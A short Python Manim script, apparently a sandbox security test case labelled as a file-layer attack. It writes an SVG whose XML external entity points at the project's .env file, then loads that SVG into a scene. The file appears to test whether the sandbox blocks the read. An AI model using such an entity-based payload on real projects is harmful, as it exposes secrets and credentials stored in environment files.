# family: file
# layer: sandbox
# attack: an SVG whose XML entity points at the project's .env
from pathlib import Path
from manim import *


class Attack(Scene):
    def construct(self):
        Path("evil.svg").write_text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{{PROJECT}}/.env">]>'
                                    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>')
        self.add(SVGMobject("evil.svg"))
        self.wait(0.1)
